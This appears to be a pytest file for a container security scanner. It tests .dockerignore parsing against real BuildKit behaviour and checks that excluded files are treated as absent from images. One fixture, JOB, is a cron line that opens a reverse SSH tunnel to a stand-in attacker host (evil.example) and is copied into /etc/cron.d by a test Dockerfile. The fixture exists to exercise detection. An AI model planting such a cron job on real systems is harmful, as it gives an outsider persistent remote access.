"""`.dockerignore` as BuildKit reads it, and that what it leaves out lies in no image."""

import json
import re
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.checking import check
from scanner.checking.ignoring import Work, read
from scanner.errors import ScannerError
from scanner.model import Level
from tests.checking.repository import said, written

MEASURED = json.loads((Path(__file__).parent / "data/dockerignore.json").read_text())
"""Which files `COPY . /` took with these patterns, from builds by a real engine."""
JOB = "* * * * * root ssh -N " + "-" + "R 22:localhost:22 a@evil.example\n"
DOCKERFILE = "FROM a\nCOPY . /etc/cron.d/\n"
PLACED = ("tunnel/reverse-ssh", "job", 1, "critical")


@pytest.mark.parametrize("case", MEASURED["cases"], ids=lambda case: json.dumps(case["patterns"]))
def test_the_same_files_stay_as_in_a_real_build(case: dict[str, object]) -> None:
    data = str(case["patterns"]).encode()
    if case["copied"] is None:  # the builder refuses it
        with pytest.raises(ScannerError, match="line 1"):
            read(data, Work())
        return
    ignored = read(data, Work())
    assert [n for n, name in enumerate(MEASURED["files"]) if not ignored.leaves_out(name)] == case["copied"]


def by_expression(pattern: str, path: str) -> bool:
    """Whether the expression that patternmatcher.go writes for a pattern with a wildcard matches: slow, and short."""
    made, at = "", 0
    while at < len(pattern):
        if pattern.startswith("**", at):
            at += 3 if pattern.startswith("/", at + 2) else 2
            made += ".*" if at >= len(pattern) else "(?:.*/)?"
        else:
            made += {"*": "[^/]*", "?": "[^/]"}.get(pattern[at], re.escape(pattern[at]))
            at += 1
    return re.fullmatch(made, path) is not None


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(["a", "b", "/", "*", "?", "**/"]), max_size=8).map("".join),
    st.from_regex(r"[ab]{1,4}(/[ab]{1,3}){0,3}", fullmatch=True),
)
def test_any_pattern_matches_what_its_expression_does(pattern: str, path: str) -> None:
    pattern = "?" + pattern.strip("/").replace("//", "/")  # so that it is compared by its expression
    if "//" in pattern or not re.search(r"[*?]", pattern[1:]):
        return
    folders = [path.rsplit("/", n)[0] for n in range(path.count("/") + 1)]
    expected = any(by_expression(pattern, folder) for folder in folders)
    assert read(pattern.encode(), Work()).leaves_out(path) == expected


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=60), st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=20))
def test_no_bytes_break_it(data: bytes, path: str) -> None:
    try:
        ignored = read(data, Work())
    except ScannerError:
        return
    ignored.leaves_out(path)
    ignored.leaves_all_out(path)


def test_hostile_patterns_take_bounded_time() -> None:
    """The time that expressions would take for these grows with every wildcard."""
    ignored = read(("**a" * 200 + "b\n" + "*a" * 300 + "b\n" + "**/a" * 300 + "b\n").encode(), Work())
    begin = time.process_time()

    def asked() -> None:
        for n in range(10_000):
            assert not ignored.leaves_out("ab" + "a" * 200 + "/a" * 100 + str(n))

    with pytest.raises(ScannerError, match="too many"):
        asked()
    assert time.process_time() - begin < 10


@pytest.mark.parametrize(
    ("files", "placed"),
    [
        ({".dockerignore": "job\n"}, False),
        ({".dockerignore": "other\n"}, True),
        ({".dockerignore": "*\n!job\n"}, True),
        ({".dockerignore": "job\n", "Dockerfile.dockerignore": "other\n"}, True),
        ({"Dockerfile.dockerignore": "job\n"}, False),
        ({"a/.dockerignore": "job\n"}, True),
        ({".dockerignore": "[job\n"}, True),
    ],
    ids=["left out", "another", "exception", "its own counts", "its own", "elsewhere", "refused"],
)
def test_what_is_left_out_lies_in_no_image(tmp_path: Path, files: dict[str, str], placed: bool) -> None:
    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": DOCKERFILE, "job": JOB, **files})
    report = check([root])
    assert (PLACED in said(report)) == placed
    assert [n.level for n in report.notifications] == ([Level.NOTE] if files.get(".dockerignore") == "[job\n" else [])


def test_a_link_is_no_file_that_leaves_something_out(tmp_path: Path) -> None:
    outside = written(tmp_path / "out", {"ignore": "*\n"}) / "ignore"
    root = written(tmp_path / "in", {".git/HEAD": "", "Dockerfile": DOCKERFILE, "job": JOB})
    (root / ".dockerignore").symlink_to(outside)
    assert PLACED in said(check([root]))


def test_a_key_that_never_enters_the_context_is_in_no_image(tmp_path: Path) -> None:
    build = "FROM a\nCOPY id_ed25519 /root/.ssh/\nCOPY .ssh /root/.ssh\n"
    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": build})
    assert {line for rule, _, line, _ in said(check([root])) if rule == "build/key"} == {2, 3}
    written(root, {".dockerignore": ".ssh\nid_*\n"})
    assert said(check([root])) == set()
    written(root, {".dockerignore": "*\n!.ssh/id_rsa\n"})
    assert {line for rule, _, line, _ in said(check([root])) if rule == "build/key"} == {3}
